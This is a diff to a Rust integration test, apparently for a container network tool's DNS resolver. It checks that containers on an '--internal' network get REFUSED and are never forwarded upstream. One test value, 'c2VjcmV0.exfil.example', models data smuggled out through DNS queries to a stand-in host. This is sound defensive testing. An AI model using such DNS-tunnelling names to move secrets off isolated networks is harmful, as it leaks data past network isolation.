@@ -18,6 +18,9 @@ const SUBNET: &str = "198.18.0.0/24";
 /// A second network, for isolation.
 const OTHER: &str = "red-net";
 const OTHER_SUBNET: &str = "198.18.1.0/24";
+/// An `--internal` network.
+const SEALED: &str = "sealed-net";
+const SEALED_SUBNET: &str = "198.18.2.0/24";
 /// The lab's upstream resolver (dnsmasq on the router, the A side).
 const UPSTREAM: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);
 /// A name only the lab's upstream knows, and its address.
@@ -371,6 +374,39 @@ fn other_names_are_forwarded_upstream_and_servfail_when_it_is_down() -> Result<(
     ensure!(
         counter(&mid, "forwarded")? >= counter(&before, "forwarded")? + 5,
         "forwarded: {before} -> {mid}"
+    );
+
+    // A container on an `--internal` network only has no way out, and the
+    // resolver is none: what is not ovl's is REFUSED, never asked upstream
+    // (a question and its answer would carry data across).
+    world.ovl.create_network(
+        &world.hosts[0].netns,
+        SEALED,
+        SEALED_SUBNET,
+        &["--internal"],
+    )?;
+    let (sealed, sealed_ip) = named(&lab, world, 0, SEALED, "sealed", &[])?;
+    expect_answer(&sealed, "sealed", &[], &[&sealed_ip.to_string()])?;
+    let sealed_before = dns_counters(world, 0, SEALED)?;
+    let exfil = "c2VjcmV0.exfil.example";
+    for (name, args) in [(exfil, ["-t", "TXT"]), (OUTSIDE_NAME, ["-t", "A"])] {
+        let d = dig(&sealed, name, &args)?;
+        ensure!(
+            d.status == "REFUSED" && d.answers.is_empty(),
+            "{name} from an internal network:\n{}",
+            d.output
+        );
+    }
+    let sealed_after = dns_counters(world, 0, SEALED)?;
+    ensure!(
+        counter(&sealed_after, "failed")? == counter(&sealed_before, "failed")? + 2
+            && counter(&sealed_after, "forwarded")? == counter(&sealed_before, "forwarded")?,
+        "{SEALED}: {sealed_before} -> {sealed_after}"
+    );
+    ensure!(
+        !upstream.stderr()?.contains(exfil),
+        "the upstream was asked for an internal network's container:\n{}",
+        upstream.output_report()
     );
 
     // Upstream down: SERVFAIL within the forwarding budget (2 s, before
